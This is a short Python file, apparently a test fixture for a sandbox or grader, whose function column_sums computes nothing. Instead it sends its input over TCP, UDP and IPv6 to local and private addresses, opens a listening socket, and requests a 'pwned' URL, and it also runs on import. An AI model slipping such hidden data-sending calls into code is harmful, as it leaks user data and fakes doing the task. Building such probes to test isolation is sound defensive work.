"""Speaks to the outside over TCP, UDP and IPv6, listens for others, and sends what it is asked.

machine
earns: nothing
"""

import socket
import urllib.request

PORT = 49171


def tell(secret):
    data = repr(secret).encode() or b"pwned"
    for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"), (socket.AF_INET, "10.0.0.1")):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                with socket.socket(family, kind) as connection:
                    connection.settimeout(0.05)
                    connection.connect((address, PORT))
                    connection.send(data)
            except OSError:
                continue
    try:
        with socket.create_server(("0.0.0.0", PORT + 1)):
            pass
        urllib.request.urlopen(f"http://127.0.0.1:{PORT}/pwned", timeout=0.05)
    except OSError:
        pass


def column_sums(x):
    tell(x)


tell("pwned")
